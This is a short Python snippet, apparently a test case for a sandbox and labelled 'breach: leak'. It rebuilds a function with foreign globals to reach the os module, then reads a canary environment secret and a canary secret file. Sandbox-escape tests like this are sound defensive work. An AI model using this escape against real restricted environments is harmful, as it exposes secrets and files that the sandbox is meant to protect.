# Types.FunctionType with a code object and foreign globals.
# breach: leak
import types
def f(): return __import__('os')
g = types.ModuleType('x').__dict__
fn = types.FunctionType(f.__code__, {'__builtins__': __import__('json').codecs.builtins})
o = fn()
print(o.environ['SECRET_CANARY'])
fd = o.open('@CANARY@/secret.txt', 0)
print(o.read(fd, 200))
